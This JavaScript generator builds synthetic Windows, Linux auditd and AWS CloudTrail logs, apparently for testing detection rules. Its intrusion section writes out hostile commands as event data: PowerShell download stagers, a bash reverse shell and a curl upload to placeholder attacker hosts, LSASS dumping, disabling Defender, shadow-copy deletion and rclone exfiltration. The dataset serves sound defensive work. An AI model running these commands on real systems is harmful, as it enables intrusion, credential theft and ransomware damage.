  const logonScript = spawn(at(8, 40, 12, 300), ws.explorer, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", `powershell.exe -NoProfile -WindowStyle Hidden -File \\\\${DNS_DOMAIN}\\NETLOGON\\lecteurs.ps1`, CLAIRE);
  connect(at(8, 40, 13, 10), logonScript, "10.30.1.10", 445, { hostname: `srv-lyon-dc01.${DNS_DOMAIN}` });
  const netUse = spawn(at(8, 40, 14, 120), logonScript, "C:\\Windows\\System32\\net.exe", '"C:\\Windows\\system32\\net.exe" use Z: \\\\srv-lyon-dc01\\Partages\\Comptabilite /persistent:no', CLAIRE);
  terminate(at(8, 40, 15, 0), netUse);
  logon(W, at(8, 41, 30, 220), "adm.lefevre", 10, A.ip, "-");
  specialPrivileges(W, at(8, 41, 30, 221), "adm.lefevre");
  logoff(W, at(8, 47, 10, 5), "adm.lefevre", 10);
  const excel = spawn(at(8, 42, 5, 881), ws.explorer, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "\\\\srv-lyon-dc01\\Partages\\Comptabilite\\rapprochement_bancaire_2026-11.xlsx"', CLAIRE);
  spawn(at(8, 44, 51, 12), excel, "C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 12288", CLAIRE);
  createFile(at(8, 43, 2, 400), ws.explorer, "C:\\Users\\c.bernard\\Downloads\\outil_compta\\README.txt");
  createFile(at(8, 43, 2, 460), ws.explorer, "C:\\Users\\c.bernard\\Downloads\\outil_compta\\README_INSTALL.txt");
  const gup = spawn(at(8, 44, 20, 5), ws.services, "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc', SYSTEM);
  serviceInstalled(W, at(8, 44, 19, 700), "gupdate", '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc', "auto start", "LocalSystem");
  spawn(at(8, 44, 22, 310), gup, "C:\\Windows\\System32\\schtasks.exe", 'schtasks.exe /create /tn "GoogleUpdateTaskMachineUA" /tr "\\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\\" /ua /installsource scheduler" /sc hourly /f', SYSTEM);
  setValue(at(8, 40, 20, 10), ws.onedrive, `HKU\\${sid("c.bernard")}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive`, '"C:\\Users\\c.bernard\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background');
  setValue(at(8, 40, 21, 500), ws.zoom, `HKU\\${sid("c.bernard")}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Zoom`, '"C:\\Users\\c.bernard\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --autostart');
  setValue(at(8, 40, 22, 90), ws.edge, `HKU\\${sid("c.bernard")}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MicrosoftEdgeAutoLaunch_5C4B3A8F0E2D`, '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window --win-session-start');
  access(at(8, 45, 10, 50), ws.defender, LSASS, LSASS_PID.ws, "0x1410");
  access(at(8, 58, 41, 700), ws.wmiprvse, LSASS, LSASS_PID.ws, "0x1410");
  access(at(9, 21, 3, 15), ws.defender, LSASS, LSASS_PID.ws, "0x1010");

  // srv-lyon-dc01: monitoring, backups, an administrator at work, a user who mistypes.
  for (const [m, ms] of [[45, 113], [15, 402]]) {
    const t = m === 45 ? at(8, m, 0, ms) : at(9, m, 0, ms);
    const p = spawn(t, dc.zabbix, "C:\\Windows\\System32\\nltest.exe", `nltest.exe /dsgetdc:${DNS_DOMAIN}`, SYSTEM, { suppressed: [] });
    terminate(t + 410, p);
  }
  access(at(8, 41, 0, 7), dc.wininit, LSASS, LSASS_PID.dc, "0x1fffff");
  access(at(9, 2, 30, 91), dc.defender, LSASS, LSASS_PID.dc, "0x1410");
  const backup = spawn(at(8, 50, 0, 12), dc.svchostSys, "C:\\Windows\\System32\\Robocopy.exe", "robocopy.exe D:\\Partages \\\\srv-lyon-nas01\\sauvegarde\\Partages /MIR /R:1 /W:1 /NP /LOG:C:\\Logs\\robocopy-partages.log", SYSTEM);
  terminate(at(8, 53, 12, 400), backup);
  logon(D, at(8, 47, 55, 100), "adm.lefevre", 3, A.ip, "-");
  specialPrivileges(D, at(8, 47, 55, 101), "adm.lefevre");
  spawn(at(8, 48, 2, 500), dc.wsmprov, "C:\\Windows\\System32\\vssadmin.exe", '"C:\\Windows\\system32\\vssadmin.exe" list shadows', JULIEN, { integrity: "High" });
  spawn(at(8, 48, 30, 75), dc.wsmprov, "C:\\Windows\\System32\\gpupdate.exe", '"C:\\Windows\\system32\\gpupdate.exe" /target:computer /force', JULIEN, { integrity: "High" });
  failedNetworkLogon(at(8, 46, 12, 0), "m.petit", "10.20.22.51", "ws-paris-022");
  failedNetworkLogon(at(8, 46, 20, 500), "m.petit", "10.20.22.51", "ws-paris-022");
  logon(D, at(8, 46, 31, 0), "m.petit", 3, "10.20.22.51", "ws-paris-022", { ntlm: true });
  failedNetworkLogon(at(9, 35, 2, 0), "s.moreau", "10.30.5.14", "ws-lyon-005");
  serviceInstalled(D, at(9, 1, 12, 0), "MicrosoftEdgeElevationService", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\131.0.2903.51\\elevation_service.exe"', "demand start", "LocalSystem");

  // ws-paris-adm01: the IT administrator's own discovery commands, silenced by the filter document.
  const term = adm.terminal;
  const shell = spawn(at(8, 42, 40, 0), term, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo', JULIEN, { integrity: "High" });
  spawn(at(8, 43, 10, 200), shell, "C:\\Windows\\System32\\whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /groups', JULIEN, { suppressed: ["windows_recon_commands"], integrity: "High" });
  spawn(at(8, 43, 35, 410), shell, "C:\\Windows\\System32\\nltest.exe", `"C:\\Windows\\system32\\nltest.exe" /dclist:${DNS_DOMAIN}`, JULIEN, { suppressed: ["windows_recon_commands"], integrity: "High" });
  const net = spawn(at(8, 44, 2, 0), shell, "C:\\Windows\\System32\\net.exe", '"C:\\Windows\\system32\\net.exe" group "Admins du domaine" /domain', JULIEN, { suppressed: ["windows_recon_commands"], integrity: "High" });
  spawn(at(8, 44, 2, 31), net, "C:\\Windows\\System32\\net1.exe", 'C:\\Windows\\system32\\net1 group "Admins du domaine" /domain', JULIEN, { suppressed: ["windows_recon_commands"], integrity: "High" });
  spawn(at(8, 46, 0, 0), shell, "C:\\Windows\\System32\\schtasks.exe", '"C:\\Windows\\system32\\schtasks.exe" /query /fo LIST /v', JULIEN, { integrity: "High" });
  const inv = spawn(at(8, 47, 40, 0), shell, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", `powershell.exe -NoProfile -ExecutionPolicy Bypass -File \\\\${DNS_DOMAIN}\\NETLOGON\\inventaire.ps1`, JULIEN, { integrity: "High" });
  connect(at(8, 47, 41, 300), inv, "10.30.1.10", 5985, { hostname: `srv-lyon-dc01.${DNS_DOMAIN}` });
  connect(at(8, 47, 42, 0), inv, "fe80::5d2e:1c4b:8a7f:3e01", 5985);
  spawn(at(9, 12, 5, 0), shell, "C:\\Windows\\System32\\mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"', JULIEN, { integrity: "High" });
}

// ---------------------------------------------------------------------------------------------
// The intrusion.

const STAGER = `$d="$env:APPDATA\\Microsoft\\Crypto\\msupd.dll";(New-Object Net.WebClient).DownloadFile('http://${STAGING}/k/msupd.dll',$d);Start-Process rundll32.exe -ArgumentList ('"'+$d+'",DllRegister')`;
const CRADLE = `IEX (New-Object Net.WebClient).DownloadString('http://${STAGING}/k/inv.ps1')`;
const DC_STAGER = `$p='C:\\Windows\\Temp\\wmisrv.exe';(New-Object Net.WebClient).DownloadFile('http://${C2}/u/wmisrv.exe',$p);Set-MpPreference -DisableRealtimeMonitoring $true`;
const utf16b64 = (s) => Buffer.from(s, "utf16le").toString("base64");
const utf8b64 = (s) => Buffer.from(s, "utf8").toString("base64");

function intrusion() {
  // Initial access: the invoice attachment.
  const wordCmd = '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\c.bernard\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M4ZD\\Facture_2026-11_0457.docm" /o ""';
  const word = spawn(at(8, 51, 58, 204), ws.outlook, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", wordCmd, CLAIRE);
  createFile(at(8, 52, 3, 117), word, "C:\\Users\\c.bernard\\AppData\\Local\\Temp\\maj_facture.js");
  const wscript = spawn(at(8, 52, 5, 640), word, "C:\\Windows\\System32\\wscript.exe", '"C:\\Windows\\System32\\wscript.exe" //B //E:jscript "C:\\Users\\c.bernard\\AppData\\Local\\Temp\\maj_facture.js"', CLAIRE, { hits: ["office_spawns_script_host"] });

  // Execution: encoded PowerShell stager fetches the implant.
  const stager = spawn(at(8, 52, 7, 15), wscript, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", `powershell.exe -NoP -W Hidden -Enc ${utf16b64(STAGER)}`, CLAIRE, { hits: ["powershell_encoded_command"] });
  connect(at(8, 52, 8, 402), stager, STAGING, 80, { hits: ["script_host_public_connection"] });
  createFile(at(8, 52, 10, 9), stager, "C:\\Users\\c.bernard\\AppData\\Roaming\\Microsoft\\Crypto\\msupd.dll");
  const implant = spawn(at(8, 52, 11, 233), stager, "C:\\Windows\\System32\\rundll32.exe", '"C:\\Windows\\System32\\rundll32.exe" "C:\\Users\\c.bernard\\AppData\\Roaming\\Microsoft\\Crypto\\msupd.dll",DllRegister', CLAIRE);
  terminate(at(8, 52, 12, 500), stager);

  // Command and control: the implant beacons every three minutes (with a little jitter).
  for (let i = 0; i < 14; i++) {
    connect(at(8, 52, 14, 0) + i * 180_000 + int(-4000, 4000), implant, C2, 443, { hits: ["script_host_public_connection"] });
  }

  // Persistence on the workstation.
  setValue(at(8, 54, 40, 318), implant, `HKU\\${sid("c.bernard")}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MicrosoftEdgeUpdateCore`, 'rundll32.exe "C:\\Users\\c.bernard\\AppData\\Roaming\\Microsoft\\Crypto\\msupd.dll",DllRegister', { hits: ["run_key_user_writable_path"] });

  // Discovery through cmd.exe /c, as an implant's shell command does.
  const recon = (t, command, image, imageCmd, net1Cmd) => {
    const cmd = spawn(t, implant, "C:\\Windows\\System32\\cmd.exe", `C:\\Windows\\system32\\cmd.exe /c ${command}`, CLAIRE);
    const hits = image.endsWith("ipconfig.exe") || image.endsWith("systeminfo.exe") ? [] : ["windows_recon_commands"];
    const p = spawn(t + 37, cmd, image, imageCmd, CLAIRE, { hits });
    if (net1Cmd) spawn(t + 61, p, "C:\\Windows\\System32\\net1.exe", net1Cmd, CLAIRE, { hits: ["windows_recon_commands"] });
    spawn(t + 12, cmd, "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", CLAIRE);
  };
  recon(at(8, 55, 20, 100), "whoami /all", "C:\\Windows\\System32\\whoami.exe", "whoami  /all");
  recon(at(8, 55, 48, 0), 'net group "Admins du domaine" /domain', "C:\\Windows\\System32\\net.exe", 'net  group "Admins du domaine" /domain', 'C:\\Windows\\system32\\net1  group "Admins du domaine" /domain');
  recon(at(8, 56, 15, 500), `nltest /dclist:${DNS_DOMAIN}`, "C:\\Windows\\System32\\nltest.exe", `nltest  /dclist:${DNS_DOMAIN}`);
  recon(at(8, 56, 40, 250), "nltest /domain_trusts /all_trusts", "C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts /all_trusts");
  recon(at(8, 57, 5, 0), "ipconfig /all", "C:\\Windows\\System32\\ipconfig.exe", "ipconfig  /all");
  recon(at(8, 57, 30, 700), "net localgroup administrateurs", "C:\\Windows\\System32\\net.exe", "net  localgroup administrateurs", "C:\\Windows\\system32\\net1  localgroup administrateurs");

  // Credential access 1: brute force of the built-in administrator on the DC (14 tries, 08:58:00-08:59:44).
  for (let i = 0; i < 14; i++) failedNetworkLogon(at(8, 58, 0, 0) + i * 8000, "administrateur", W.ip, W.name);

  // Execution 2: a second stage, this time as a Base64 blob decoded in the command line.
  const cradle = spawn(at(9, 5, 30, 12), implant, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", `powershell.exe -nop -c "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${utf8b64(CRADLE)}')))"`, CLAIRE, { hits: ["base64_download_cradle"] });
  connect(at(9, 5, 31, 80), cradle, STAGING, 80, { hits: ["script_host_public_connection"] });
  createFile(at(9, 6, 10, 555), cradle, "C:\\Users\\Public\\Libraries\\wmisrv.exe");

  // Credential access 2: password spraying, 8 accounts, one try each (09:10:30-09:12:15).
  const sprayed = ["m.petit", "s.moreau", "l.girard", "n.roux", "a.fournier", "p.lambert", "e.bonnet", "t.mercier"];
  sprayed.forEach((u, i) => failedNetworkLogon(at(9, 10, 30, 0) + i * 15000, u, W.ip, W.name));

  // Credential access 3: LSASS dump on the workstation (finds adm.lefevre's helpdesk session).
  const dumper = spawn(at(9, 14, 2, 410), cradle, "C:\\Users\\Public\\Libraries\\wmisrv.exe", `C:\\Users\\Public\\Libraries\\wmisrv.exe -p ${LSASS_PID.ws} -o C:\\Users\\Public\\Libraries\\wm.dat`, CLAIRE, { integrity: "High" });
  access(at(9, 14, 3, 2), dumper, LSASS, LSASS_PID.ws, "0x1FFFFF", { hits: ["lsass_access_unusual_process"], callTrace: "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c0ce|C:\\Users\\Public\\Libraries\\wmisrv.exe+1a2f3" });
  createFile(at(9, 14, 5, 870), dumper, "C:\\Users\\Public\\Libraries\\wm.dat");

  // Lateral movement: PsExec with adm.lefevre's credentials to the domain controller.
  const psexec = spawn(at(9, 16, 18, 0), implant, "C:\\Users\\Public\\Libraries\\PsExec64.exe", `C:\\Users\\Public\\Libraries\\PsExec64.exe -accepteula \\\\srv-lyon-dc01 -u ${JULIEN} -d powershell.exe /nop /w hidden /ec ${utf16b64(DC_STAGER)}`, CLAIRE);
  connect(at(9, 16, 18, 900), psexec, D.ip, 445, { hostname: `srv-lyon-dc01.${DNS_DOMAIN}` });
  logon(D, at(9, 16, 20, 40), "adm.lefevre", 3, W.ip, W.name, { ntlm: true });
  specialPrivileges(D, at(9, 16, 20, 41), "adm.lefevre");
  const system = { ...dc.services, image: "System", guid: `{${D.guid}-2b6d-673d-0100-000000000701}`, pid: "4", user: SYSTEM };
  createFile(at(9, 16, 21, 300), system, "C:\\Windows\\PSEXESVC.exe");
  serviceInstalled(D, at(9, 16, 22, 5), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "demand start", "LocalSystem", { hits: ["service_install_remote_execution"] });
  const psexesvc = spawn(at(9, 16, 23, 120), dc.services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", SYSTEM);

  // Execution on the DC: encoded PowerShell, written with slashes (windash).
  const dcPs = spawn(at(9, 16, 25, 470), psexesvc, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", `"powershell.exe" /nop /w hidden /ec ${utf16b64(DC_STAGER)}`, JULIEN, { hits: ["powershell_encoded_command"], integrity: "High" });
  connect(at(9, 16, 27, 10), dcPs, C2, 80, { hits: ["script_host_public_connection"] });
  createFile(at(9, 16, 29, 600), dcPs, "C:\\Windows\\Temp\\wmisrv.exe");

  // Credential access on the DC.
  const dcDumper = spawn(at(9, 18, 40, 5), dcPs, "C:\\Windows\\Temp\\wmisrv.exe", `C:\\Windows\\Temp\\wmisrv.exe -p ${LSASS_PID.dc} -o C:\\Windows\\Temp\\wm.dat`, JULIEN, { integrity: "High" });
  access(at(9, 18, 41, 33), dcDumper, LSASS, LSASS_PID.dc, "0x1410", { hits: ["lsass_access_unusual_process"], callTrace: "C:\\Windows\\SYSTEM32\\ntdll.dll+a0b14|C:\\Windows\\System32\\KERNELBASE.dll+2a6ce|C:\\Windows\\Temp\\wmisrv.exe+1a2f3" });
  createFile(at(9, 18, 44, 2), dcDumper, "C:\\Windows\\Temp\\wm.dat");

  // Persistence on the DC: a scheduled task at start-up.
  spawn(at(9, 20, 5, 900), dcPs, "C:\\Windows\\System32\\schtasks.exe", '"C:\\Windows\\system32\\schtasks.exe" /create /tn "Microsoft\\Windows\\WindowsUpdate\\MajAuto" /tr "C:\\Windows\\Temp\\wmisrv.exe -svc" /sc onstart /ru SYSTEM /f', JULIEN, { hits: ["schtasks_create_suspicious_payload"], integrity: "High" });

  // Exfiltration from the DC's file shares with a renamed rclone.
  createFile(at(9, 21, 50, 0), dcPs, "C:\\Windows\\Temp\\svcsync.exe");
  createFile(at(9, 21, 52, 0), dcPs, "C:\\Windows\\Temp\\sc.conf");
  const rclone = spawn(at(9, 22, 30, 300), dcPs, "C:\\Windows\\Temp\\svcsync.exe", 'C:\\Windows\\Temp\\svcsync.exe copy "D:\\Partages\\Comptabilite" depot:martel --config C:\\Windows\\Temp\\sc.conf --transfers 8 --ignore-existing -q', JULIEN, { hits: ["rclone_exfiltration"], integrity: "High" });
  for (let i = 0; i < 3; i++) connect(at(9, 22, 31, 0) + i * 900, rclone, DROP, 990);
  terminate(at(9, 25, 58, 0), rclone);

  // Impact on the DC: shadow copies, then the encryptor and its notes.
  spawn(at(9, 27, 10, 45), dcPs, "C:\\Windows\\System32\\vssadmin.exe", '"C:\\Windows\\system32\\vssadmin.exe" delete shadows /all /quiet', JULIEN, { hits: ["shadow_copy_deletion"], integrity: "High" });
  createFile(at(9, 27, 35, 0), dcPs, "C:\\Windows\\Temp\\lck.exe");
  const locker = spawn(at(9, 27, 40, 500), dcPs, "C:\\Windows\\Temp\\lck.exe", "C:\\Windows\\Temp\\lck.exe --paths D:\\Partages;C:\\Users\\Public --note LISEZ-MOI_RESTAURATION.txt", JULIEN, { integrity: "High" });
  const dcNotes = ["D:\\Partages\\Comptabilite", "D:\\Partages\\RH", "D:\\Partages\\Direction", "C:\\Users\\Public\\Desktop"];
  dcNotes.forEach((dir, i) => {
    createFile(at(9, 28, 0, 0) + i * 10_000, locker, `${dir}\\LISEZ-MOI_RESTAURATION.txt`, { hits: ["ransom_note_created"] });
    createFile(at(9, 28, 1, 0) + i * 10_000, locker, `${dir}\\${pick(["grand-livre-2026", "paie-2026-10", "budget-2027", "organigramme"])}.xlsx.mrtl`);
  });

  // Impact on the workstation, 38 minutes after its encoded PowerShell: outside the 30-minute chain.
  spawn(at(9, 30, 5, 200), implant, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic  shadowcopy delete /nointeractive", CLAIRE, { hits: ["shadow_copy_deletion"] });
  const wsLocker = spawn(at(9, 30, 30, 0), implant, "C:\\Users\\Public\\Libraries\\lck.exe", "C:\\Users\\Public\\Libraries\\lck.exe --paths C:\\Users\\c.bernard --note LISEZ-MOI_RESTAURATION.txt", CLAIRE);
  createFile(at(9, 31, 0, 100), wsLocker, "C:\\Users\\c.bernard\\Desktop\\LISEZ-MOI_RESTAURATION.txt", { hits: ["ransom_note_created"] });
  createFile(at(9, 31, 20, 800), wsLocker, "C:\\Users\\c.bernard\\Documents\\LISEZ-MOI_RESTAURATION.txt", { hits: ["ransom_note_created"] });
  createFile(at(9, 31, 21, 0), wsLocker, "C:\\Users\\c.bernard\\Documents\\rapprochement_bancaire_2026-11.xlsx.mrtl");
}

// ---------------------------------------------------------------------------------------------
// Linux: auditd records of srv-lyon-fic01 as JSON objects (values decoded, as auditbeat or laurel
// would give them), one object per record.

const LINUX_FILE = "linux/auditd.jsonl";
let auditSerial = 88120;
function audit(t, records, opts = {}) {
  auditSerial += int(1, 6);
  const stamp = `audit(${(t / 1000).toFixed(3)}:${auditSerial})`;
  for (const r of records) {
    const main = r.type === "EXECVE";
    emit(LINUX_FILE, t, { "@timestamp": iso(t), node: "srv-lyon-fic01", msg: stamp, ...r }, main ? opts : {});
  }
}
const proctitle = (argv) => Buffer.from(argv.join("\0")).toString("hex").toUpperCase();
let linuxPid = 41000;
function exec(t, user, uid, exe, argv, opts = {}) {
  linuxPid += int(3, 40);
  const comm = exe.slice(exe.lastIndexOf("/") + 1).slice(0, 15);
  const execve = { type: "EXECVE", argc: String(argv.length) };
  argv.forEach((a, i) => {
    execve[`a${i}`] = a;
  });
  audit(
    t,
    [
      { type: "SYSCALL", arch: "c000003e", syscall: "59", success: "yes", exit: "0", a0: hex(12), a1: hex(12), a2: hex(12), a3: "0", items: "2", ppid: String(opts.ppid ?? linuxPid - 7), pid: String(linuxPid), auid: String(uid), uid: String(uid), gid: String(uid), euid: String(uid), suid: String(uid), fsuid: String(uid), egid: String(uid), sgid: String(uid), fsgid: String(uid), tty: opts.tty ?? "(none)", ses: opts.ses ?? "4294967295", comm, exe, subj: "unconfined", key: "exec", AUID: user, UID: user },
      execve,
      { type: "CWD", cwd: opts.cwd ?? "/" },
      { type: "PATH", item: "0", name: exe, inode: String(int(100000, 999999)), mode: "0100755", ouid: "0", ogid: "0", nametype: "NORMAL" },
      { type: "PROCTITLE", proctitle: proctitle(argv) },
    ],
    opts,
  );
}
function sshLogin(t, user, uid, ip, ses) {
  audit(t, [{ type: "USER_AUTH", pid: String(linuxPid), uid: "0", auid: "4294967295", ses: "4294967295", subj: "unconfined", op: "PAM:authentication", grantors: "pam_sss", acct: user, exe: "/usr/sbin/sshd", hostname: ip, addr: ip, terminal: "ssh", res: "success" }]);
  audit(t + 40, [{ type: "USER_LOGIN", pid: String(linuxPid), uid: "0", auid: String(uid), ses, subj: "unconfined", op: "login", id: String(uid), exe: "/usr/sbin/sshd", hostname: ip, addr: ip, terminal: "/dev/pts/0", res: "success" }]);
}

function linux() {
  // cron every ten minutes: the Samba health check.
  for (let m = 40; m < 100; m += 10) {
    const t = at(8 + Math.floor(m / 60), m % 60, 1, int(0, 400));
    exec(t, "root", 0, "/usr/bin/bash", ["/bin/sh", "-c", "/usr/local/sbin/check_smb.sh >/dev/null 2>&1"]);
    exec(t + 30, "root", 0, "/usr/bin/systemctl", ["systemctl", "is-active", "smbd"]);
  }
  // The Linux administrator's morning.
  sshLogin(at(8, 44, 10, 0), "p.durand", 1111, "10.20.31.44", "31");
  exec(at(8, 44, 30, 0), "p.durand", 1111, "/usr/bin/df", ["df", "-h", "/srv/partages"], { tty: "pts0", ses: "31", cwd: "/home/p.durand" });
  exec(at(8, 45, 2, 0), "p.durand", 1111, "/usr/bin/curl", ["curl", "-fsS", "-o", "/tmp/ca-martel.pem", `https://pki.${DNS_DOMAIN}/ca.pem`], { tty: "pts0", ses: "31", cwd: "/home/p.durand" });
  exec(at(8, 45, 40, 0), "p.durand", 1111, "/usr/bin/curl", ["curl", "-s", "http://127.0.0.1:9100/metrics"], { tty: "pts0", ses: "31", cwd: "/home/p.durand" });
  exec(at(8, 46, 15, 0), "p.durand", 1111, "/usr/bin/tail", ["tail", "-n", "50", "/var/log/samba/log.smbd"], { tty: "pts0", ses: "31", cwd: "/home/p.durand" });

  // The intruder, with adm.lefevre's domain password, from the compromised workstation.
  actor = "attacker";
  sshLogin(at(9, 23, 20, 0), "adm.lefevre", 1105, W.ip, "37");
  exec(at(9, 23, 40, 0), "adm.lefevre", 1105, "/usr/bin/bash", ["bash", "-c", `bash -i >& /dev/tcp/${C2}/4444 0>&1`], { tty: "pts1", ses: "37", cwd: "/home/adm.lefevre", hits: ["linux_reverse_shell"] });
  exec(at(9, 24, 5, 0), "adm.lefevre", 1105, "/usr/bin/tar", ["tar", "czf", "/tmp/.cache/rh.tgz", "/srv/partages/RH"], { tty: "pts1", ses: "37", cwd: "/home/adm.lefevre" });
  exec(at(9, 24, 50, 0), "adm.lefevre", 1105, "/usr/bin/curl", ["curl", "-s", "-T", "/tmp/.cache/rh.tgz", `http://${DROP}:8080/up/`], { tty: "pts1", ses: "37", cwd: "/home/adm.lefevre", hits: ["linux_curl_file_upload"] });
  exec(at(9, 25, 20, 0), "adm.lefevre", 1105, "/usr/bin/rm", ["rm", "-f", "/tmp/.cache/rh.tgz"], { tty: "pts1", ses: "37", cwd: "/home/adm.lefevre" });
  actor = "benign";
}

// ---------------------------------------------------------------------------------------------
// AWS: CloudTrail records of account 111122223333 (eu-west-3), one record per line.

const CLOUD_FILE = "cloud/cloudtrail.jsonl";
const ACCOUNT = "111122223333";
const uuid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(["8", "9", "a", "b"])}${hex(3)}-${hex(12)}`;
function trail(t, identity, source, name, ip, extra = {}, opts = {}) {
  const { category = "Management", readOnly = true, ...fields } = extra;
  emit(
    CLOUD_FILE,
    t,
    {
      eventVersion: "1.10",
      userIdentity: identity,
      eventTime: iso(t).replace(/\.\d{3}Z$/, "Z"),
      eventSource: source,
      eventName: name,
      awsRegion: "eu-west-3",
      sourceIPAddress: ip,
      userAgent: fields.userAgent ?? "aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux#6.8.0-49-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#debian.12 md/prompt#off md/command#s3.cp",
      requestParameters: fields.requestParameters ?? null,
      responseElements: fields.responseElements ?? null,
      ...(fields.additionalEventData ? { additionalEventData: fields.additionalEventData } : {}),
      ...(fields.errorCode ? { errorCode: fields.errorCode, errorMessage: fields.errorMessage } : {}),
      requestID: hex(16).toUpperCase(),
      eventID: uuid(),
      readOnly,
      ...(fields.resources ? { resources: fields.resources } : {}),
      eventType: fields.eventType ?? "AwsApiCall",
      managementEvent: category === "Management",
      recipientAccountId: ACCOUNT,
      eventCategory: category,
      tlsDetails: { tlsVersion: "TLSv1.3", cipherSuite: "TLS_AES_128_GCM_SHA256", clientProvidedHostHeader: `${source.split(".")[0]}.eu-west-3.amazonaws.com` },
    },
    opts,
  );
}
const iamUser = (name, keyId) => ({ type: "IAMUser", principalId: `AIDA${digest("sha1", name).slice(0, 17)}`, arn: `arn:aws:iam::${ACCOUNT}:user/${name}`, accountId: ACCOUNT, accessKeyId: keyId, userName: name });
const appRole = { type: "AssumedRole", principalId: "AROAXK3RL7EXAMPLEAPP:i-0a1b2c3d4e5f60718", arn: `arn:aws:sts::${ACCOUNT}:assumed-role/martel-tms-app/i-0a1b2c3d4e5f60718`, accountId: ACCOUNT, accessKeyId: "ASIAXK3RL7EXAMPLE0TM", sessionContext: { sessionIssuer: { type: "Role", principalId: "AROAXK3RL7EXAMPLEAPP", arn: `arn:aws:iam::${ACCOUNT}:role/martel-tms-app`, accountId: ACCOUNT, userName: "martel-tms-app" }, attributes: { creationDate: "2026-11-20T07:58:12Z", mfaAuthenticated: "false" }, ec2RoleDelivery: "2.0" } };
const durand = iamUser("p.durand", "ASIAXK3RL7EXAMPLE0PD");
const backupUser = iamUser("svc-sauvegarde", "AKIAXK3RL7EXAMPLEBKP");
const s3Get = (bucket, key, bytes) => ({
  category: "Data",
  requestParameters: { bucketName: bucket, Host: `${bucket}.s3.eu-west-3.amazonaws.com`, key },
  additionalEventData: { SignatureVersion: "SigV4", CipherSuite: "TLS_AES_128_GCM_SHA256", bytesTransferredIn: 0, AuthenticationMethod: "AuthHeader", "x-amz-id-2": hex(40), bytesTransferredOut: bytes },
  resources: [
    { type: "AWS::S3::Object", ARN: `arn:aws:s3:::${bucket}/${key}` },
    { accountId: ACCOUNT, type: "AWS::S3::Bucket", ARN: `arn:aws:s3:::${bucket}` },
  ],
});

function cloud() {
  const browserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0";
  // Background: the TMS application reads small objects through the VPC endpoint, all hour long.
  for (let i = 0; i < 12; i++) {
    const t = at(8, 40, 30) + i * 290_000 + int(0, 60_000);
    trail(t, appRole, "s3.amazonaws.com", "GetObject", "10.40.3.15", { ...s3Get("martel-tms-documents", `bons-de-livraison/2026/11/BL-${int(100000, 999999)}.pdf`, int(40_000, 900_000)), userAgent: "aws-sdk-java/2.29.20 Linux/6.1.115-126.197.amzn2023.x86_64 OpenJDK_64-Bit_Server_VM/21.0.5+11-LTS Java/21.0.5 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy" });
  }
  // The nightly export is fetched by the TMS instance: large, but from the private network.
  trail(at(8, 41, 10), appRole, "s3.amazonaws.com", "GetObject", "10.40.3.15", { ...s3Get("martel-finance-exports", "exports/2026-11-19_ecritures.csv.gz", 126_877_402), userAgent: "aws-sdk-java/2.29.20 Linux/6.1.115-126.197.amzn2023.x86_64 OpenJDK_64-Bit_Server_VM/21.0.5+11-LTS Java/21.0.5 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy" });
  // The cloud administrator signs in from the office and works.
  trail(at(8, 42, 3), { type: "IAMUser", principalId: durand.principalId, arn: durand.arn, accountId: ACCOUNT, userName: "p.durand" }, "signin.amazonaws.com", "ConsoleLogin", CORP_EGRESS, { userAgent: browserAgent, readOnly: false, eventType: "AwsConsoleSignIn", responseElements: { ConsoleLogin: "Success" }, additionalEventData: { LoginTo: "https://eu-west-3.console.aws.amazon.com/console/home", MobileVersion: "No", MFAUsed: "Yes" } });
